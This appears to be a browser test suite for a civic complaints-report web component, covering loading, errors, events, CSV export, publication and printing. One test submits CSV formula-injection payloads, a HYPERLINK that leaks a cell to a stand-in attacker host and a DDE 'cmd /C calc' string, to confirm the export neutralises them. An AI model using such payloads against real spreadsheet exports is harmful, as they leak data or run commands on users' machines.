/**
 * <chikaya-report>: what it does, against the sandbox. A new `year`, `agency`, `scope` or `sector`
 * reads that report (one request each) and a change while loading leaves the last one shown; a
 * language change asks nothing; the errors a user may meet (an unknown public body or sector, a
 * year without reports, a network that fails, then "Try again"); the `chikaya-report-loaded`
 * event; every table saved as a CSV file a spreadsheet reads (its exact text, quoting included, no
 * text it would run as a formula, small counts as `<5`);
 * a report approved by the ministry shows as published; printing: no buttons, one column, black
 * on white whatever the theme.
 */
import { deepEqual, equal, ok } from '../../../tools/browser/assert.js';
import { afterEach, describe, it } from '../../../tools/browser/mocha.js';
import { admin, backOffice, emulateMedia, setViewport } from './commands.js';
import { csvCell } from '../../src/report/csv.js';
import { problemResponse, spyOnFetch } from './fetch-spy.js';
import { activateMedia, emulatesMedia } from './media.js';
import {
  $,
  $$,
  agencyId,
  api,
  catchDownloads,
  collect,
  csv,
  csvCount,
  download,
  everyMonth,
  expectedCsv,
  expectTables,
  facts,
  focused,
  isFirefox,
  isReport,
  loaded,
  localDay,
  mountLoading,
  mountReport,
  nameOf,
  problem,
  provisionalYear,
  publishedYear,
  recordReports,
  type Report,
  type ReportElement,
  reportPath,
  root,
  sectorId,
  status,
  switchLocale,
  table,
  tableIds,
  text,
  thisYear,
  title,
} from './report.support.js';
import { forward, lodge, someoneElse } from './status-tracker.support.js';
import { cleanup, onCleanup, platform, settle, until } from './support.js';

interface AgencyPage {
  items: { id: string }[];
}

interface LoadedDetail {
  scope: string;
  id: string | null;
  sectorId: string | null;
  year: number;
  status: string;
}

const retry = (element: ReportElement) => $<HTMLButtonElement>(element, 'button.retry');

/** The ids of a sector's agencies. */
async function agenciesOf(sector: string): Promise<string[]> {
  const { items } = await api<AgencyPage>(`/v1/agencies?sector=${sector}&pageSize=100`);
  return items.map((item) => item.id).filter((id) => id !== agencyId && id !== platform.agencyId);
}

/** A report in its error state: the message alone, said at once, without figures or buttons (unless `retry`). */
function expectProblem(element: ReportElement, message: string, { retry: retried = false } = {}): void {
  equal(problem(element), message);
  equal($(element, '.problem')!.getAttribute('role'), 'alert', 'said at once');
  equal(root(element)!.getAttribute('aria-busy'), 'false');
  equal($$(element, 'section').length, 0, 'no figures');
  equal($(element, 'button.print'), null, 'nothing to print');
  if (retried) equal(text(retry(element)), 'Try again');
  else equal($$(element, 'button').length, 0, 'no “Try again”: it would fail again');
}

describe('<chikaya-report> behaviour', () => {
  afterEach(cleanup);

  describe('attributes', () => {
    it('a new `year`, `agency`, `scope`, or `scope` and `sector` together: one request each, and that report shown', async () => {
      const other = (await agenciesOf(sectorId))[0]!;
      ok(other, `an agency in ${sectorId}`);
      const reads = recordReports();
      const element = await mountReport(`agency="${agencyId}" year="${provisionalYear}" locale="en"`);
      const agencyTitle = (id: string, year: number) => (report: Report) => `${nameOf(report, 'agencies', id, 'en')}: annual report ${year}`;
      const sectorTitle = (year: number) => (report: Report) => `${nameOf(report, 'sectors', sectorId, 'en')}: sector report ${year}`;
      const steps: [string, () => void, string, (report: Report) => string][] = [
        ['year', () => element.setAttribute('year', String(publishedYear)), reportPath('agency', agencyId, publishedYear), agencyTitle(agencyId, publishedYear)],
        ['agency', () => element.setAttribute('agency', other), reportPath('agency', other, publishedYear), agencyTitle(other, publishedYear)],
        ['scope', () => element.setAttribute('scope', 'national'), reportPath('national', null, publishedYear), () => `National summary report ${publishedYear}`],
        [
          'scope and sector',
          () => {
            element.setAttribute('sector', sectorId);
            element.setAttribute('scope', 'sector');
          },
          reportPath('sector', sectorId, publishedYear),
          sectorTitle(publishedYear),
        ],
        ['the `year` property', () => (element.year = provisionalYear), reportPath('sector', sectorId, provisionalYear), sectorTitle(provisionalYear)],
      ];
      equal(reads.all.length, 1);
      for (const [what, change, path, heading] of steps) {
        const before: number = reads.all.length;
        change();
        await until(() => reads.all.length > before, 5000, `a request after changing ${what}`);
        await loaded(element);
        deepEqual(
          reads.all.slice(before).map((read) => read.url.pathname),
          [path],
          `${what}: one request, for that report`,
        );
        const report = reads.last(path);
        equal(title(element), heading(report), `${what}: the title`);
        expectTables(element, report, 'en');
      }
    });

    it('a change while loading: the last report asked for is the one shown, the first answer is dropped', async () => {
      const realFetch = window.fetch.bind(window);
      const spy = spyOnFetch();
      let release!: () => void;
      const held = new Promise<void>((resolve) => (release = resolve));
      onCleanup(() => release());
      const first = reportPath('agency', agencyId, publishedYear);
      spy.intercept = async (exchange) => {
        if (exchange.url.pathname !== first) return undefined;
        await held;
        // The first answer comes after all, as a slow network gives it, even though it is no longer wanted.
        return realFetch(exchange.url.href, { cache: 'no-store' });
      };
      const element = await mountReport(`agency="${agencyId}" year="${publishedYear}" locale="en"`, { wait: false });
      await until(() => spy.exchanges.length === 1, 5000, 'the first request');
      element.setAttribute('year', String(provisionalYear));
      await until(() => spy.exchanges.length === 2, 5000, 'the second request');
      await loaded(element);
      ok(title(element).endsWith(String(provisionalYear)), title(element));
      release();
      await until(() => spy.exchanges[0]!.status === 200, 5000, 'the first answer');
      await settle(element);
      ok(title(element).endsWith(String(provisionalYear)), `still ${provisionalYear}: ${title(element)}`);
      ok(status(element).startsWith('Provisional'), status(element));
    });

    it('a language change asks nothing: the names follow, from the report itself', async () => {
      const reads = recordReports();
      const element = await mountReport(`sector="${sectorId}" year="${publishedYear}" locale="en"`);
      const report = reads.last();
      for (const locale of ['fr', 'ar', 'zgh', 'en'] as const) {
        await switchLocale(element, locale);
        ok(title(element).includes(nameOf(report, 'sectors', sectorId, locale)), `${locale}: ${title(element)}`);
        expectTables(element, report, locale);
      }
      equal(reads.all.length, 1, 'still the one request');
    });

    it('moved in the page, keeps its report without asking again; taken off while loading and put back, loads it', async () => {
      const reads = recordReports();
      const element = await mountReport(`agency="${agencyId}" year="${publishedYear}" locale="en"`);
      const aside = document.createElement('aside');
      document.body.append(aside);
      aside.append(element);
      await settle(element);
      equal(reads.all.length, 1);
      ok(status(element).startsWith('Published on'), 'still shown');

      const spy = spyOnFetch();
      let release!: () => void;
      const held = new Promise<void>((resolve) => (release = resolve));
      onCleanup(() => release());
      spy.intercept = async (exchange) => {
        if (isReport(exchange.url) && spy.exchanges.filter((seen) => isReport(seen.url)).length === 1) await held;
        return undefined;
      };
      const second = await mountReport(`sector="${sectorId}" year="${publishedYear}" locale="en"`, { wait: false });
      await until(() => spy.exchanges.length === 1, 5000, 'the first request');
      const main = second.closest('main')!;
      second.remove();
      release();
      main.append(second);
      await loaded(second);
      ok(title(second).endsWith(`sector report ${publishedYear}`), title(second));
      ok(status(second).startsWith('Published on'), status(second));
      equal($(second, '.problem'), null, 'nothing said about the abandoned read');
    });
  });

  describe('problems', () => {
    it('while loading: busy, and says so', async () => {
      const { element, release } = await mountLoading(`agency="${agencyId}" year="${publishedYear}" locale="en"`);
      equal(text($(element, '.loading')), 'Loading the report…');
      equal(root(element)!.getAttribute('aria-busy'), 'true');
      equal(title(element), `Annual report ${publishedYear}`, 'an id is no name: none until the report gives it');
      equal($$(element, 'section').length, 0);
      release();
      await loaded(element);
      equal($(element, '.loading'), null);
      equal(root(element)!.getAttribute('aria-busy'), 'false');
    });

    it('an unknown public body or sector, a year before the platform or still to come: each says so, without “Try again”', async () => {
      const events = collect('chikaya-report-loaded');
      const cases: [string, string, string][] = [
        [`agency="nulle-part" year="${provisionalYear}"`, 'No public body has the id "nulle-part".', `Annual report ${provisionalYear}`],
        [`sector="nulle-part" year="${provisionalYear}"`, 'No sector has the id "nulle-part".', `Sector report ${provisionalYear}`],
        [`agency="${agencyId}" year="2017"`, 'There is no report for 2017.', 'Annual report 2017'],
        ['scope="national" year="2017"', 'There is no report for 2017.', 'National summary report 2017'],
        [`agency="${agencyId}" year="${thisYear + 1}"`, `There is no report for ${thisYear + 1}.`, `Annual report ${thisYear + 1}`],
      ];
      for (const [attributes, message, heading] of cases) {
        const element = await mountReport(`${attributes} locale="en"`);
        expectProblem(element, message);
        equal(title(element), heading, `${attributes}: the title names no id`);
      }
      equal(events.length, 0, 'no report was loaded');
    });

    it('the network fails: “The report could not be loaded.” and “Try again”, which shows the report and moves the focus to its title', async () => {
      const spy = spyOnFetch();
      let failing = true;
      spy.intercept = (exchange) => {
        if (failing && isReport(exchange.url)) throw new TypeError('Failed to fetch (cut by the test)');
        return undefined;
      };
      const reads = recordReports();
      const element = await mountReport(`agency="${agencyId}" year="${publishedYear}" locale="en"`);
      expectProblem(element, 'The report could not be loaded.', { retry: true });
      ok(reads.all.length >= 1 && reads.all.every((read) => read.status === undefined), 'the requests failed');
      failing = false;
      retry(element)!.click();
      await until(() => status(element), 10_000, 'the report after “Try again”');
      await loaded(element);
      equal($(element, '.problem'), null, 'the message is gone');
      equal(retry(element), null);
      equal(focused(element), $(element, 'h2.title'), 'the focus is on the title, not lost with the button');
      expectTables(element, reads.last(), 'en');
    });

    it('the platform fails (503, tried again and again): the same message, and “Try again” tries again', async () => {
      const spy = spyOnFetch();
      spy.intercept = (exchange) => (isReport(exchange.url) ? problemResponse(503, 'service_unavailable') : undefined);
      const element = await mountReport(`scope="national" year="${publishedYear}" locale="en"`);
      expectProblem(element, 'The report could not be loaded.', { retry: true });
      const tries = spy.exchanges.length;
      ok(tries >= 1, 'it asked');
      retry(element)!.click();
      await until(() => spy.exchanges.length > tries, 5000, 'another try');
      await loaded(element);
      expectProblem(element, 'The report could not be loaded.', { retry: true });
    });
  });

  describe('the chikaya-report-loaded event', () => {
    it('bubbles out of the element with the scope, the id, the year and the status, once per report shown', async () => {
      const events = collect<LoadedDetail>('chikaya-report-loaded');
      const agency = await mountReport(`agency="${agencyId}" year="${provisionalYear}" locale="en"`);
      const sector = await mountReport(`sector="${sectorId}" year="${publishedYear}" locale="en"`);
      const nation = await mountReport(`year="${publishedYear}" locale="en"`);
      await until(() => events.length === 3, 5000, 'three events');
      deepEqual(
        events.map((event) => event.detail),
        [
          { scope: 'agency', id: agencyId, sectorId: 'interior', year: provisionalYear, status: 'provisional' },
          { scope: 'sector', id: sectorId, sectorId, year: publishedYear, status: 'published' },
          { scope: 'national', id: null, sectorId: null, year: publishedYear, status: 'published' },
        ],
      );
      deepEqual(
        events.map((event) => event.target),
        [agency, sector, nation],
        'from each element',
      );
      ok(events.every((event) => event.bubbles && event.composed));
      agency.setAttribute('year', String(publishedYear));
      await until(() => events.length === 4, 5000, 'an event for the new year');
      deepEqual(events[3]!.detail, { scope: 'agency', id: agencyId, sectorId: 'interior', year: publishedYear, status: 'published' });
      await switchLocale(agency, 'fr');
      await switchLocale(agency, 'en');
      equal(events.length, 4, 'a language change loads nothing');
    });
  });

  describe('CSV files', () => {
    it('the nation’s every table and its measures: named after the report, UTF-8 with a BOM, CRLF, a header, raw numbers, ISO months and days', async () => {
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="national" year="${provisionalYear}" locale="en"`);
      const report = reads.last();
      const expected = expectedCsv(report);
      const ids = [...tableIds(element), 'measures'];
      deepEqual([...ids].sort(), Object.keys(expected).sort(), 'a file for every table and for the measures');
      for (const id of ids) {
        const file = await download(element, id, downloads);
        equal(file.name, `chikaya-national-${provisionalYear}-${id}.csv`);
        equal(file.type, 'text/csv;charset=utf-8');
        deepEqual([...file.bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], `${id}: a UTF-8 byte order mark, for Excel`);
        equal(file.text, `\uFEFF${expected[id]}`, `${id}: the file's text`);
        ok(file.linkInDocument, `${id}: saved from a link in the document`);
      }
      equal(document.querySelectorAll('a[download]').length, 0, 'the links are gone afterwards');
      // What a spreadsheet gets: the Total row, months as 2025-03, percentages with one decimal.
      const classification = expected.classification!.split('\r\n');
      ok(classification.at(-2)!.startsWith('Total,'), `the Total row last: ${classification.at(-2)}`);
      ok(expected.months!.includes(`\r\n${provisionalYear}-01,`), 'months as YYYY-MM');
      ok(/\r\n[^\r\n]*,\d+(\.\d)?,\d+(\.\d)?,\d+(\.\d)?,[0-3]\r\n/.test(expected.sectors!), 'rates as percentages');
      ok(!/\d\s\d/u.test(Object.values(expected).join('')), 'no digit grouping');
    });

    it('an agency’s and a sector’s files are named after them; the measures list and the lines per public body', async () => {
      const reads = recordReports();
      const downloads = catchDownloads();
      const agency = await mountReport(`agency="${agencyId}" year="${provisionalYear}" locale="en"`);
      const agencyFiles = expectedCsv(reads.last());
      for (const id of ['classification', 'months', 'measures']) {
        const file = await download(agency, id, downloads);
        equal(file.name, `chikaya-agency-${agencyId}-${provisionalYear}-${id}.csv`);
        equal(file.text, `\uFEFF${agencyFiles[id]}`, `${id}: the file's text`);
      }
      const sector = await mountReport(`sector="${sectorId}" year="${publishedYear}" locale="en"`);
      const sectorFiles = expectedCsv(reads.last(reportPath('sector', sectorId, publishedYear)));
      for (const id of ['agencies', 'measures']) {
        const file = await download(sector, id, downloads);
        equal(file.name, `chikaya-sector-${sectorId}-${publishedYear}-${id}.csv`);
        equal(file.text, `\uFEFF${sectorFiles[id]}`, `${id}: the file's text`);
      }
    });

    it('in French: the header and the names in the page’s language, the numbers still raw', async () => {
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="national" year="${provisionalYear}" locale="fr"`);
      const report = reads.last();
      const shown = (id: string) => table(element, id);
      const kinds = ['complaint', 'observation', 'suggestion', 'total'] as const;
      const classification = shown('classification');
      const expected: Record<string, string> = {
        // The words the page shows (French as far as it is translated), the names the report gives in French.
        classification: csv([
          classification.columns,
          ...report.classification.map((row, index) => [
            row.serviceCategoryId === 'unclassified' ? classification.rows[index]![0]! : nameOf(report, 'serviceCategories', row.serviceCategoryId, 'fr'),
            ...kinds.map((kind) => csvCount(row[kind], report)),
          ]),
          [classification.total![0]!, ...kinds.map((kind) => report.totals[kind])],
        ]),
        months: csv([shown('months').columns, ...everyMonth(report).map((row) => [row.month, csvCount(row.received, report), csvCount(row.answered, report)])]),
        participation: csv([shown('participation').columns, ...report.participation.map((point) => [point.date, point.agencies])]),
      };
      const category = (id: string, locale: 'fr' | 'en') => nameOf(report, 'serviceCategories', id, locale);
      ok(
        report.classification.some((row) => category(row.serviceCategoryId, 'fr') !== category(row.serviceCategoryId, 'en')),
        'the report names its categories differently in French',
      );
      for (const [id, content] of Object.entries(expected)) {
        const file = await download(element, id, downloads);
        equal(file.name, `chikaya-national-${provisionalYear}-${id}.csv`, 'the name does not depend on the language');
        equal(file.text, `\uFEFF${content}`, `${id}: the file's text`);
      }
    });

    it('a measure whose title has a comma and quotes is quoted as a spreadsheet reads it', async () => {
      const token = `${isFirefox ? 'firefox' : 'chromium'}-${Math.random().toString(36).slice(2, 8)}`;
      const measure = {
        title: `Guichet "sans rendez-vous", le samedi (${token})`,
        description: 'Ouvert le samedi matin, de 9 h à 12 h, pour les extraits d’actes.',
        serviceId: platform.serviceId,
        status: 'adopted',
        date: new Date().toISOString().slice(0, 10),
      };
      const recorded = await backOffice<{ id: number }>('POST', '/v1/back-office/measures', measure);
      equal(recorded.status, 201, `the back office recorded the measure (${JSON.stringify(recorded.body)})`);
      onCleanup(async () => {
        await backOffice('DELETE', `/v1/back-office/measures/${recorded.body.id}`);
      });
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="agency" agency="${platform.agencyId}" year="${thisYear}" locale="en"`);
      const report = reads.last();
      ok(
        report.measures.some((item) => item.title === measure.title),
        'the report lists the new measure',
      );
      ok(
        $$(element, 'li.measure h4').some((heading) => text(heading) === measure.title),
        'and so does the page',
      );
      const file = await download(element, 'measures', downloads);
      equal(file.name, `chikaya-agency-${platform.agencyId}-${thisYear}-measures.csv`);
      const line = `"Guichet ""sans rendez-vous"", le samedi (${token})",Commune du banc d’essai,État civil,Adopted,${measure.date},"${measure.description}"\r\n`;
      ok(file.text.includes(line), `the line, quoted:\n${line}\nin:\n${file.text}`);
      equal(file.text, `\uFEFF${expectedCsv(report).measures}`);
    });

    it('a measure whose title and details a spreadsheet would run as formulas is saved as text', async () => {
      const token = `${isFirefox ? 'firefox' : 'chromium'}-${Math.random().toString(36).slice(2, 8)}`;
      const measure = {
        title: `=HYPERLINK("http://attacker.invalid/?leak="&A1,"Voir") ${token}`,
        description: `@SUM(1+1)*cmd|' /C calc'!A0 (${token})`,
        serviceId: platform.serviceId,
        status: 'adopted',
        date: new Date().toISOString().slice(0, 10),
      };
      const recorded = await backOffice<{ id: number }>('POST', '/v1/back-office/measures', measure);
      equal(recorded.status, 201, `the back office recorded the measure (${JSON.stringify(recorded.body)})`);
      onCleanup(async () => {
        await backOffice('DELETE', `/v1/back-office/measures/${recorded.body.id}`);
      });
      // The report read by the test before may be in the browser's cache: read it again past it.
      await fetch(`${platform.url}/v1/reports/agencies/${platform.agencyId}/${thisYear}`, { cache: 'reload' });
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="agency" agency="${platform.agencyId}" year="${thisYear}" locale="en"`);
      ok(
        reads.last().measures.some((item) => item.title === measure.title),
        'the report lists the new measure',
      );
      const file = await download(element, 'measures', downloads);
      // OWASP: a single quote first, so that the spreadsheet reads text, and the field quoted
      const line = `"'=HYPERLINK(""http://attacker.invalid/?leak=""&A1,""Voir"") ${token}",Commune du banc d’essai,État civil,Adopted,${measure.date},"'@SUM(1+1)*cmd|' /C calc'!A0 (${token})"\r\n`;
      ok(file.text.includes(line), `the line, neutralised:\n${line}\nin:\n${file.text}`);
      equal(file.text, `\uFEFF${expectedCsv(reads.last()).measures}`);
    });

    it('csvCell: a text starting with =, +, -, @, a tab or a carriage return is text; numbers, negative ones too, stay numbers', () => {
      deepEqual(
        ['=1+1', '+33 6 12', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=b', 'x,-1', '<5', "'quoted"].map(csvCell),
        [`"'=1+1"`, `"'+33 6 12"`, `"'-2+3"`, `"'@SUM(A1)"`, `"'\t=1"`, `"'\r=1"`, 'a=b', '"x,-1"', '<5', "'quoted"],
      );
      deepEqual([-3, -0.5, 0, 42, null].map(csvCell), ['-3', '-0.5', '0', '42', '']);
    });

    it('a suppressed count is saved as <5, with no share, and the totals as they are', async () => {
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="national" year="${provisionalYear}" locale="en"`);
      const report = reads.last();
      const suppressed = report.byRegion.find((row) => row.count === null);
      ok(suppressed, 'a region with fewer than 5 submissions');
      const file = await download(element, 'regions', downloads);
      ok(file.text.includes(`\r\n${nameOf(report, 'regions', suppressed.key, 'en')},<5,\r\n`), `the region's line says <5:\n${file.text}`);
      const classification = await download(element, 'classification', downloads);
      const { totals } = report;
      ok(classification.text.endsWith(`\r\nTotal,${totals.complaint},${totals.observation},${totals.suggestion},${totals.total}\r\n`), classification.text);
    });
  });

  describe('forwarded submissions', () => {
    it('counts them as received, says where the tables count them, and shares its tables over what it handled', async () => {
      // Two people: the same person's same complaint again would be a duplicate, counted once.
      await lodge('observation', someoneElse()); // one it keeps
      const { trackingCode } = await lodge('complaint', someoneElse());
      await forward(trackingCode, 'dgsn', 'Transmise à la DGSN, compétente.');
      // An earlier test read this report, which the browser may keep for five minutes: read it
      // again past the cache, which puts the new answer in the cache for the element.
      await fetch(`${platform.url}/v1/reports/agencies/${platform.agencyId}/${thisYear}`, { cache: 'reload' });
      const reads = recordReports();
      const downloads = catchDownloads();
      const element = await mountReport(`scope="agency" agency="${platform.agencyId}" year="${thisYear}" locale="en"`);
      const report = reads.last();
      const { counts } = report.kpis;
      ok(counts.forwardedOut >= 1, 'the platform counts the forward');
      equal(facts(element)['Forwarded to the competent public body'], String(counts.forwardedOut));
      equal(
        text($(element, '.note')),
        `The tables of this report count each submission where it was handled: the ${counts.forwardedOut} forwarded to the competent public body are counted there.`,
      );
      // the tables count what it handled, and their shares are shares of that (a suppressed count has none)
      const held = counts.received - counts.forwardedOut;
      equal(report.totals.total, held, 'the totals are what it handled');
      const regions = (await download(element, 'regions', downloads)).text.trim().split('\r\n').slice(1);
      deepEqual(
        regions.map((line) => line.split(',').at(-1)),
        report.byRegion.map((row) => (row.count === null ? '' : String(Math.round((row.count / held) * 1000) / 10))),
        'each region’s share of what it handled',
      );
      const shares = regions.map((line) => Number(line.split(',').at(-1)));
      if (report.byRegion.every((row) => row.count !== null))
        ok(Math.abs(shares.reduce((sum, share) => sum + share, 0) - 100) < 0.5, `the regions' shares add up to 100 (${shares.join(' + ')})`);
    });
  });

  describe('publication', () => {
    it('a report approved by the ministry shows as published, on the day of its approval, with the figures it was approved with', async () => {
      // Each browser approves an agency of its own: both may run against the same sandbox at once.
      const candidates = await agenciesOf('health');
      if (isFirefox) candidates.reverse();
      let approved: Report | undefined;
      for (const candidate of candidates) {
        // One with figures to show, and whose report no other test reads (the browser would have it cached, provisional).
        const before = await api<Report>(reportPath('agency', candidate, provisionalYear));
        if (before.status !== 'provisional' || before.kpis.counts.received === 0) continue;
        const answer = await admin<Report>('POST', '/v1/admin/reports/approvals', { scope: 'agency', id: candidate, year: provisionalYear });
        if (answer.status === 409) continue;
        equal(answer.status, 201, `approved (${JSON.stringify(answer.body).slice(0, 200)})`);
        approved = answer.body;
        break;
      }
      ok(approved, `a ${provisionalYear} report in health still awaiting approval`);
      const id = approved.agencyId!;
      equal(approved.status, 'published');
      const events = collect<LoadedDetail>('chikaya-report-loaded');
      const reads = recordReports();
      const element = await mountReport(`agency="${id}" year="${provisionalYear}" locale="en"`);
      equal(status(element), `Published on ${localDay(approved.publishedAt!, 'en')}.`);
      ok($(element, '.status')!.classList.contains('status--published'));
      deepEqual(reads.last(), approved, 'the report read is the one approved');
      expectTables(element, approved, 'en');
      deepEqual(events[0]!.detail, { scope: 'agency', id, sectorId: 'health', year: provisionalYear, status: 'published' });
      // The others of that year still await theirs.
      const other = await mountReport(`agency="${agencyId}" year="${provisionalYear}" locale="en"`);
      ok(status(other).endsWith('this report awaits approval.'), status(other));
    });
  });

  describe('printing', () => {
    /** Lays the page out wide enough for the charts to sit beside their tables, until the test ends. */
    async function wide(): Promise<void> {
      const { innerWidth: width, innerHeight: height } = window;
      await setViewport({ width: 1280, height: 900 });
      onCleanup(() => setViewport({ width, height }));
      await until(() => window.innerWidth === 1280, 2000, 'the 1280 px viewport');
    }

    /** Print media for the element: emulated in Chromium; in Firefox, the element's `@media print` rules switched on. */
    async function print(element: ReportElement): Promise<void> {
      if (emulatesMedia) {
        await emulateMedia({ media: 'print' });
        onCleanup(() => emulateMedia({ media: 'screen' }));
      } else activateMedia(element, 'print');
      await until(() => $$(element, 'button').every((button) => getComputedStyle(button).display === 'none'), 2000, 'print media');
    }

    const columns = (grid: Element) => getComputedStyle(grid).gridTemplateColumns.split(' ').length;

    it('“Print” prints the page', async () => {
      const element = await mountReport(`agency="${agencyId}" year="${publishedYear}" locale="en"`);
      let printed = 0;
      const original = window.print;
      window.print = () => void printed++;
      onCleanup(() => {
        window.print = original;
      });
      $<HTMLButtonElement>(element, 'button.print')!.click();
      equal(printed, 1);
    });

    it('printed: no buttons, charts under their tables in one column, black on white even in the dark theme', async () => {
      await wide();
      const element = await mountReport(`scope="national" year="${provisionalYear}" locale="en" theme="dark"`);
      const buttons = $$(element, 'button');
      ok(buttons.length > 5, 'print and download buttons');
      ok(
        buttons.every((button) => getComputedStyle(button).display !== 'none'),
        'on screen, the buttons show',
      );
      const pairs = $$(element, '.pair');
      const trio = $(element, '.trio')!;
      ok(pairs.length >= 2, 'charts beside tables');
      ok(
        pairs.every((pair) => columns(pair) === 2),
        `on screen, two columns: ${pairs.map((pair) => getComputedStyle(pair).gridTemplateColumns).join(' | ')}`,
      );
      equal(columns(trio), 3, 'on screen, the breakdowns side by side');
      equal(getComputedStyle(root(element)!).backgroundColor, 'rgb(21, 26, 23)', 'on screen, dark');

      await print(element);
      for (const button of buttons) equal(getComputedStyle(button).display, 'none', `printed, no “${text(button)}” button`);
      for (const pair of pairs) equal(columns(pair), 1, `printed, one column: ${getComputedStyle(pair).gridTemplateColumns}`);
      equal(columns(trio), 1, 'printed, the breakdowns one under the other');
      const white = 'rgb(255, 255, 255)';
      const black = 'rgb(0, 0, 0)';
      equal(getComputedStyle(element).backgroundColor, white, 'the host on white');
      equal(getComputedStyle(root(element)!).backgroundColor, white, 'the report on white');
      for (const selector of ['h2.title', '#headline-heading', 'dl.facts dd', 'table td', 'table tbody th']) {
        equal(getComputedStyle($(element, selector)!).color, black, `${selector} in black`);
      }
      for (const target of $$(element, 'li.target')) equal(getComputedStyle(target).backgroundColor, white, 'the targets on white');
    });
  });
});
